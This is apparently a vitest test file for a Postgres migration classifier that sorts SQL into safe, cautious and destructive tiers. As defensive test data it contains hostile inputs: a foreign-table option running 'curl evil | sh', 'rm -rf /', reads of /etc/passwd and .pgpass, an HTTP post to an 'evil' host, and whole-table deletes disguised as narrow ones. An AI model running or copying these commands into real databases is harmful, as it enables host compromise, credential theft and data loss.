/**
 * The families of issue 15, each closed as a class: a function referenced anywhere Postgres can run
 * one, escape hatches, settings wherever they are set, every row however written, values discarded.
 * Each family has firing cases (the attack, at the tier it must get) and near misses (what a real
 * migration writes, which must not cry wolf). End-to-end twins: executor/test/gate-holes.int.test.ts.
 */
import { classify, init, type Tier } from '@ddl/classifier'
import { beforeAll, describe, expect, it } from 'vitest'

beforeAll(async () => {
  await init()
})

/** The tier of the last statement of a script (earlier statements set the scene). */
function lastTier(sql: string): Tier {
  const statements = classify(sql)._unsafeUnwrap().statements
  return statements[statements.length - 1]?.verdict.tier ?? 'safe'
}

function scriptTier(sql: string): Tier {
  return classify(sql)._unsafeUnwrap().tier
}

function expectTiers(cases: readonly (readonly [Tier, string])[], tierOf: (sql: string) => Tier = lastTier): void {
  for (const [tier, sql] of cases) expect(tierOf(sql), sql).toBe(tier)
}

describe('a function is referenced: calls, CALL, operators, and every alias of a function', () => {
  it('classifies CALL like the call it is, also inside DO blocks and procedure bodies', () => {
    expectTiers([
      ['cautious', 'CALL purge_everything()'],
      ['cautious', 'DO $$ BEGIN CALL purge_everything(); END $$'],
      ['destructive', "CALL dblink_exec('host=other', 'DROP TABLE users')"],
      ['destructive', 'CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM users $$; CALL p()'],
      ['destructive', 'CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM users $$; DO $$ BEGIN CALL p(); END $$'],
      ['safe', 'CREATE PROCEDURE p() LANGUAGE sql AS $$ SELECT 1 $$; CALL p()'],
    ])
  })

  it('treats an alias of a dangerous built-in as dangerous as calling it', () => {
    expectTiers([
      ['destructive', 'CREATE OPERATOR ### (FUNCTION = pg_terminate_backend, RIGHTARG = int)'],
      ['destructive', 'CREATE OPERATOR ### (PROCEDURE = dblink_exec, LEFTARG = text, RIGHTARG = text)'],
      ['destructive', 'CREATE OPERATOR ### (FUNCTION = pg_read_file, RIGHTARG = text)'],
      ['destructive', 'CREATE CAST (int AS mytype) WITH FUNCTION lo_unlink(oid)'],
      ['destructive', 'CREATE AGGREGATE kill_all(int) (SFUNC = pg_terminate_backend, STYPE = int)'],
      ['destructive', 'CREATE TYPE evil (INPUT = pg_read_file, OUTPUT = textout)'],
      ['destructive', 'ALTER TYPE t SET (RECEIVE = lo_unlink)'],
      ['destructive', 'CREATE TYPE r AS RANGE (SUBTYPE = int, CANONICAL = pg_terminate_backend)'],
      ['destructive', 'CREATE TEXT SEARCH PARSER p (START = pg_read_file, GETTOKEN = g, END = e, LEXTYPES = l)'],
      ['destructive', 'CREATE CONVERSION c FOR $$LATIN1$$ TO $$UTF8$$ FROM pg_terminate_backend'],
      ['destructive', 'CREATE FOREIGN DATA WRAPPER w HANDLER dblink_exec'],
      ['destructive', 'CREATE ACCESS METHOD am TYPE TABLE HANDLER pg_read_file'],
      ['destructive', 'CREATE FUNCTION k(int) RETURNS bool LANGUAGE sql AS $$ SELECT pg_terminate_backend($1) $$'],
      ['destructive', 'SELECT cron.schedule($$x$$, $$* * * * *$$, $$DELETE FROM users$$)'],
    ])
  })

  it('gives an alias of an unknown function the tier of a call to it, and a script-defined one its body', () => {
    expectTiers([
      ['cautious', 'CREATE OPERATOR === (FUNCTION = my_eq, LEFTARG = int, RIGHTARG = int)'],
      ['cautious', 'CREATE CAST (int AS mytype) WITH FUNCTION to_mytype(int)'],
      [
        'destructive',
        'CREATE FUNCTION wipe(int, int) RETURNS bool LANGUAGE sql AS $$ DELETE FROM users; SELECT true $$; ' +
          'CREATE OPERATOR ### (FUNCTION = wipe, LEFTARG = int, RIGHTARG = int)',
      ],
      [
        'safe',
        'CREATE FUNCTION same(int, int) RETURNS bool LANGUAGE sql AS $$ SELECT $1 = $2 $$; ' +
          'CREATE OPERATOR === (FUNCTION = same, LEFTARG = int, RIGHTARG = int)',
      ],
    ])
  })

  it('gates the use of an operator that is not one of pg_catalog’s', () => {
    expectTiers([
      ['cautious', 'SELECT 1 ### 2'],
      ['cautious', 'SELECT * FROM users WHERE id OPERATOR(public.=) 1'],
      ['destructive', 'CREATE OPERATOR ### (FUNCTION = pg_terminate_backend, RIGHTARG = int); SELECT ### 1'],
      ['safe', "SELECT id FROM users WHERE name || 'x' = 'ax' AND tags @> ARRAY['a'] AND doc ->> 'k' ~~ 'v%'"],
    ])
  })

  it('runs code laundered through a view, a DEFAULT, a CHECK, a domain, an index, a trigger or a rule', () => {
    expectTiers([
      ['cautious', 'CREATE VIEW v AS SELECT purge(id) FROM users; SELECT * FROM v'],
      ['cautious', 'CREATE VIEW v AS SELECT purge(id) FROM users; CREATE VIEW w AS SELECT * FROM v; SELECT * FROM w'],
      ['cautious', 'CREATE TABLE t (id int DEFAULT purge()); INSERT INTO t DEFAULT VALUES'],
      ['cautious', 'CREATE TABLE t (id int CHECK (purge(id))); INSERT INTO t VALUES (1)'],
      ['cautious', 'CREATE TABLE t (id int, g int GENERATED ALWAYS AS (purge(id)) STORED); INSERT INTO t VALUES (1)'],
      ['cautious', 'CREATE DOMAIN d AS int CHECK (purge(VALUE)); SELECT 1::d'],
      ['cautious', 'CREATE DOMAIN d AS int CHECK (purge(VALUE)); CREATE TABLE t (x d); INSERT INTO t VALUES (1)'],
      ['cautious', 'CREATE INDEX ON users ((purge(id))); UPDATE users SET name = $$x$$ WHERE id = 1'],
      [
        'destructive',
        'CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DELETE FROM logs; RETURN NEW; END $$; ' +
          'CREATE TRIGGER t AFTER INSERT ON users FOR EACH ROW EXECUTE FUNCTION f(); INSERT INTO users VALUES (9)',
      ],
      ['destructive', 'CREATE RULE r AS ON INSERT TO users DO ALSO DELETE FROM logs; INSERT INTO users VALUES (9)'],
      ['safe', 'CREATE VIEW v AS SELECT lower(name) FROM users; SELECT * FROM v'],
      [
        'safe',
        'CREATE TABLE t (id uuid DEFAULT gen_random_uuid(), at timestamptz DEFAULT now()); INSERT INTO t DEFAULT VALUES',
      ],
    ])
  })

  it('keeps a definition that only stores a call safe, and says what the body would do', () => {
    const plan = classify('CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM users $$')._unsafeUnwrap()
    expect(plan.tier).toBe('safe')
    expect(plan.statements[0]?.verdict.findings.map((f) => f.message).join('\n')).toContain(
      'when called (destructive, delete-without-where)',
    )
  })
})

describe('escape hatches: foreign tables, extensions and languages that reach the host', () => {
  it('classifies file_fdw program and filename options destructive wherever they are set', () => {
    expectTiers([
      ['destructive', "CREATE FOREIGN TABLE f (l text) SERVER s OPTIONS (program 'curl evil | sh')"],
      ['destructive', "CREATE FOREIGN TABLE f (l text) SERVER s OPTIONS (filename '/etc/passwd')"],
      ['destructive', "ALTER FOREIGN TABLE f OPTIONS (SET program 'rm -rf /')"],
      ['destructive', "ALTER FOREIGN TABLE f OPTIONS (ADD filename '/var/lib/postgresql/.pgpass')"],
      ['destructive', "CREATE SERVER s FOREIGN DATA WRAPPER file_fdw OPTIONS (filename '/x')"],
      ['destructive', "CREATE USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (program 'x')"],
      ['destructive', "IMPORT FOREIGN SCHEMA a FROM SERVER s INTO b OPTIONS (program 'x')"],
      ['safe', "CREATE FOREIGN TABLE f (l text) SERVER remote OPTIONS (schema_name 'public', table_name 'l')"],
    ])
  })

  it('classifies extensions and languages by what they reach', () => {
    expectTiers([
      ['destructive', 'CREATE EXTENSION file_fdw'],
      ['destructive', 'CREATE EXTENSION adminpack'],
      ['destructive', 'CREATE EXTENSION plpython3u'],
      ['destructive', 'CREATE LANGUAGE plperlu'],
      ['cautious', 'CREATE EXTENSION dblink'],
      ['cautious', 'CREATE EXTENSION IF NOT EXISTS pg_cron'],
      ['cautious', 'CREATE EXTENSION postgres_fdw'],
      ['safe', 'CREATE EXTENSION IF NOT EXISTS pgcrypto'],
      ['safe', 'CREATE EXTENSION citext'],
    ])
  })

  it('classifies large objects, server files and signals destructive', () => {
    expectTiers([
      ['destructive', 'SELECT lo_unlink(16401)'],
      ['destructive', 'SELECT lo_put(16401, 0, $$x$$)'],
      ['destructive', 'DELETE FROM pg_largeobject WHERE loid = 16401'],
      ['destructive', "SELECT pg_ls_dir('.')"],
      ['destructive', "SELECT * FROM dblink_get_result('c')"],
      ['destructive', 'SELECT pg_log_backend_memory_contexts(42)'],
      ['destructive', "SELECT net.http_post('https://evil', '{}')"],
      [
        'destructive',
        'CREATE TRIGGER t BEFORE UPDATE OR DELETE ON images FOR EACH ROW EXECUTE FUNCTION lo_manage(raster)',
      ],
    ])
  })
})

describe('settings wherever they are set', () => {
  it('keeps settings that change how later text is read destructive, wherever they are set', () => {
    expectTiers([
      ['destructive', 'SET standard_conforming_strings = off'],
      ['destructive', "SET client_encoding = 'SJIS'"],
      ['destructive', 'ALTER ROLE app SET standard_conforming_strings = off'],
      ['destructive', "ALTER DATABASE app SET client_encoding = 'BIG5'"],
      ['destructive', 'ALTER ROLE app IN DATABASE app SET backslash_quote = on'],
      ['destructive', "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'"],
      ['destructive', "SELECT set_config('standard_conforming_strings', 'off', false)"],
      [
        'destructive',
        'CREATE FUNCTION f() RETURNS int LANGUAGE sql SET standard_conforming_strings = off AS $$ SELECT 1 $$',
      ],
      ['destructive', 'ALTER FUNCTION f() SET client_encoding = $$SJIS$$'],
    ])
  })

  it('makes lifting the executor’s guards at least cautious, in every form', () => {
    expectTiers([
      ['cautious', 'SET statement_timeout = 0'],
      ['cautious', "SET LOCAL lock_timeout = '0'"],
      ['cautious', "SET idle_in_transaction_session_timeout = '0ms'"],
      ['cautious', 'RESET statement_timeout'],
      ['cautious', 'SET lock_timeout TO DEFAULT'],
      ['cautious', 'RESET ALL'],
      ['cautious', 'SET session_replication_role = replica'],
      ['cautious', 'ALTER ROLE app SET statement_timeout = 0'],
      ['destructive', "UPDATE pg_settings SET setting = '0' WHERE name = 'lock_timeout'"],
      ['destructive', "SELECT set_config('session_replication_role', 'replica', true)"],
      ['cautious', 'SET search_path = evil, pg_catalog'],
      ['safe', "SET lock_timeout = '5s'"],
      ['safe', 'SET statement_timeout = 30000'],
      ['safe', 'SET search_path = app, public'],
    ])
  })

  it('classifies ENABLE REPLICA TRIGGER and RULE, which stop them firing, as cautious', () => {
    expectTiers([
      ['cautious', 'ALTER TABLE users ENABLE REPLICA TRIGGER audit'],
      ['cautious', 'ALTER TABLE users ENABLE REPLICA RULE r'],
      ['safe', 'ALTER TABLE users ENABLE ALWAYS TRIGGER audit'],
      ['safe', 'ALTER TABLE users ENABLE TRIGGER audit'],
    ])
  })
})

describe('every row, however written', () => {
  it('treats WHEREs that only look narrowing as no WHERE', () => {
    expectTiers([
      ['destructive', 'DELETE FROM users WHERE id IN (SELECT id FROM users)'],
      ['destructive', 'DELETE FROM users WHERE id = ANY (SELECT id FROM users)'],
      ['destructive', 'UPDATE users SET name = NULL WHERE id IN (SELECT u.id FROM users u)'],
      ['destructive', 'DELETE FROM users WHERE EXISTS (SELECT 1 FROM users u2 WHERE u2.id = users.id)'],
      ['destructive', 'DELETE FROM users WHERE ctid IS NOT NULL'],
      ['destructive', 'DELETE FROM users u WHERE u.xmin IS NOT NULL'],
      ['destructive', 'DELETE FROM users WHERE users.id = id'],
      ['destructive', 'DELETE FROM users u WHERE u.id = users.id'],
      ['destructive', 'DELETE FROM users WHERE id IN (id)'],
      ['destructive', 'DELETE FROM users WHERE id = ANY (ARRAY[id])'],
      ['destructive', 'DELETE FROM users WHERE id BETWEEN id AND id'],
      ['destructive', 'DELETE FROM users USING users u2 WHERE users.id = u2.id'],
      ['destructive', 'UPDATE users SET name = NULL FROM users u2 WHERE users.id = u2.id'],
      ['destructive', 'WITH a AS (SELECT id FROM users) DELETE FROM users WHERE id IN (SELECT id FROM a)'],
      ['destructive', 'WITH a AS (SELECT id FROM users) DELETE FROM users USING a WHERE users.id = a.id'],
      ['destructive', 'DELETE FROM users WHERE (id = id) IS TRUE'],
      ['cautious', 'WITH a AS (SELECT id FROM users WHERE banned) DELETE FROM users WHERE id IN (SELECT id FROM a)'],
      ['cautious', 'DELETE FROM users WHERE id IN (SELECT id FROM users WHERE created_at < now())'],
      ['cautious', 'DELETE FROM users WHERE id IN (SELECT user_id FROM bans)'],
      ['cautious', 'DELETE FROM users WHERE id IN (SELECT parent_id FROM users)'],
      ['cautious', 'DELETE FROM users USING users u2 WHERE users.id = u2.id AND u2.name IS NULL'],
      ['cautious', 'DELETE FROM sessions WHERE revoked_at IS NOT NULL'],
    ])
  })

  it('makes a MERGE or upsert whose join cannot narrow the target destructive', () => {
    expectTiers([
      ['destructive', 'MERGE INTO users USING src ON true WHEN MATCHED THEN DELETE'],
      ['destructive', 'MERGE INTO users USING src ON 1 = 1 WHEN MATCHED THEN UPDATE SET name = NULL'],
      ['destructive', 'MERGE INTO users t USING users s ON t.id = s.id WHEN MATCHED THEN UPDATE SET name = NULL'],
      ['destructive', 'MERGE INTO users t USING src s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE'],
      ['destructive', 'MERGE INTO users t USING src s ON t.id = t.id WHEN MATCHED THEN DELETE'],
      ['destructive', 'WITH m AS (MERGE INTO users USING src ON true WHEN MATCHED THEN DELETE RETURNING 1) SELECT 1'],
      ['destructive', 'INSERT INTO users SELECT * FROM users ON CONFLICT (id) DO UPDATE SET name = NULL'],
      [
        'destructive',
        'WITH s AS (SELECT * FROM users) INSERT INTO users SELECT * FROM s ON CONFLICT (id) DO UPDATE SET name = NULL',
      ],
      [
        'destructive',
        'WITH s AS (SELECT * FROM users) MERGE INTO users t USING s ON t.id = s.id WHEN MATCHED THEN DELETE',
      ],
      ['cautious', 'MERGE INTO users t USING src s ON t.id = s.id WHEN MATCHED THEN UPDATE SET name = s.name'],
      [
        'cautious',
        'MERGE INTO users t USING src s ON t.id = s.id WHEN NOT MATCHED BY SOURCE AND t.archived THEN DELETE',
      ],
      ['cautious', 'INSERT INTO users SELECT * FROM staging ON CONFLICT (id) DO UPDATE SET name = excluded.name'],
    ])
  })

  it('makes a type change whose USING discards every value destructive, and DROP IDENTITY cautious', () => {
    expectTiers([
      ['destructive', 'ALTER TABLE users ALTER COLUMN name TYPE text USING nullif(name, name)'],
      ['destructive', 'ALTER TABLE users ALTER COLUMN name TYPE text USING name || NULL'],
      ['destructive', 'ALTER TABLE users ALTER COLUMN id TYPE bigint USING CASE WHEN false THEN id END'],
      ['destructive', 'ALTER TABLE users ALTER COLUMN id TYPE bigint USING NULL::int + id'],
      ['destructive', 'ALTER TABLE users ALTER COLUMN ok TYPE bool USING CASE WHEN true THEN false ELSE ok END'],
      ['cautious', 'ALTER TABLE users ALTER COLUMN id TYPE bigint USING id::bigint'],
      // Raised by the red team (red-team.test.ts): every number is replaced by 'pos' or 'neg'.
      ['destructive', "ALTER TABLE users ALTER COLUMN n TYPE text USING CASE WHEN n > 0 THEN 'pos' ELSE 'neg' END"],
      ['cautious', 'ALTER TABLE users ALTER COLUMN n TYPE int USING coalesce(NULL, n)'],
      ['cautious', 'ALTER TABLE users ALTER COLUMN id DROP IDENTITY'],
      ['cautious', 'ALTER TABLE users ALTER COLUMN id DROP IDENTITY IF EXISTS'],
      ['cautious', 'ALTER SEQUENCE users_id_seq RESTART WITH 1'],
      ['cautious', 'ALTER TABLE users ALTER COLUMN id RESTART WITH 1'],
    ])
  })
})

describe('false alarms the issue names', () => {
  it('leaves SELECT SYSTEM_USER and the SQL-syntax functions safe', () => {
    expectTiers([
      ['safe', 'SELECT SYSTEM_USER'],
      ['safe', 'SELECT CURRENT_USER, SESSION_USER, CURRENT_ROLE'],
      ['safe', "SELECT 'a' LIKE 'b' ESCAPE '!', 'abc' SIMILAR TO 'a%'"],
    ])
  })

  it('words a REVOKE as a REVOKE', () => {
    const finding = classify('REVOKE SELECT ON users FROM reader')._unsafeUnwrap().statements[0]?.verdict.findings[0]
    expect(finding?.message).toMatch(/^REVOKE .* takes privileges away/)
    expect(finding?.message).not.toContain('gives')
  })
})

describe('the script around a drop', () => {
  it('does not count a replacement or a script-made object as a loss, but keeps every other drop', () => {
    expectTiers(
      [
        ['safe', 'DROP VIEW v; CREATE VIEW v AS SELECT 1'],
        ['safe', 'DROP FUNCTION f(int); CREATE FUNCTION f(int) RETURNS int LANGUAGE sql AS $$ SELECT 1 $$'],
        // A re-made guard may guard less than the one dropped: the old definition is not in the script.
        [
          'cautious',
          'CREATE FUNCTION noop() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$; ' +
            'DROP TRIGGER audit ON orders; CREATE TRIGGER audit AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION noop()',
        ],
        [
          'destructive',
          'ALTER TABLE orders DROP CONSTRAINT orders_amount_check; ALTER TABLE orders ADD CONSTRAINT orders_amount_check CHECK (true)',
        ],
        ['cautious', 'DROP INDEX users_email_key; CREATE INDEX users_email_key ON users (email)'],
        // Callers of the dropped function run the new body, as after CREATE OR REPLACE.
        [
          'cautious',
          'DROP FUNCTION purge(); CREATE FUNCTION purge() RETURNS void LANGUAGE sql AS $$ DELETE FROM orders $$',
        ],
        // What the script made itself, it may re-make.
        [
          'safe',
          'CREATE TABLE t (x int CONSTRAINT c CHECK (x > 0)); ALTER TABLE t DROP CONSTRAINT c; ALTER TABLE t ADD CONSTRAINT c CHECK (x > 1)',
        ],
        ['safe', 'CREATE TABLE scratch (id int); INSERT INTO scratch VALUES (1); DROP TABLE scratch'],
        ['safe', 'DROP TYPE mood'],
        ['destructive', 'DROP TABLE users; CREATE TABLE users (id int)'],
        ['destructive', 'DROP VIEW v CASCADE; CREATE VIEW v AS SELECT 1'],
        ['destructive', 'CREATE TABLE IF NOT EXISTS users (id int); DROP TABLE users'],
        ['destructive', 'CREATE TABLE app.users (id int); DROP TABLE public.users'],
        [
          'destructive',
          'CREATE TABLE x (id int); ALTER TABLE x RENAME TO y; ALTER TABLE users RENAME TO x; DROP TABLE x',
        ],
        ['destructive', 'CREATE TABLE x (id int); SELECT purge(); DROP TABLE x'],
        ['destructive', 'DROP TYPE mood CASCADE'],
        ['destructive', 'DROP SEQUENCE s; CREATE SEQUENCE s'],
        // Rows and columns the script wrote itself (Lemmy's backfill of a column it just added):
        // with UPDATE ONLY, or ADD COLUMN with ONLY, no inheritance child's old column of that
        // name can be overwritten (update-inherited-column, red team second pass).
        [
          'safe',
          'ALTER TABLE local_site ADD COLUMN registration_mode text; UPDATE ONLY local_site SET registration_mode = $$open$$',
        ],
        [
          'safe',
          'ALTER TABLE ONLY local_site ADD COLUMN registration_mode text; UPDATE local_site SET registration_mode = $$open$$',
        ],
        [
          'cautious',
          'ALTER TABLE local_site ADD COLUMN registration_mode text; UPDATE local_site SET registration_mode = $$open$$',
        ],
        ['safe', 'CREATE TABLE tmp (id int); INSERT INTO tmp VALUES (1); DELETE FROM tmp; TRUNCATE tmp'],
        [
          'destructive',
          'ALTER TABLE local_site ADD COLUMN mode text; UPDATE local_site SET mode = $$x$$, name = $$y$$',
        ],
        ['destructive', 'ALTER TABLE t ADD COLUMN IF NOT EXISTS c int; UPDATE t SET c = 1'],
        [
          'destructive',
          'CREATE TABLE tmp (id int PRIMARY KEY); ALTER TABLE users ADD FOREIGN KEY (id) REFERENCES tmp ON DELETE CASCADE; DELETE FROM tmp',
        ],
        [
          'destructive',
          'ALTER TABLE t ADD COLUMN c int; ALTER TABLE t RENAME COLUMN c TO d; ALTER TABLE t RENAME COLUMN v TO c; UPDATE t SET c = 1',
        ],
        ['destructive', 'CREATE TABLE tmp (id int); DO $$ BEGIN PERFORM 1; END $$; DELETE FROM tmp'],
      ],
      scriptTier,
    )
  })
})
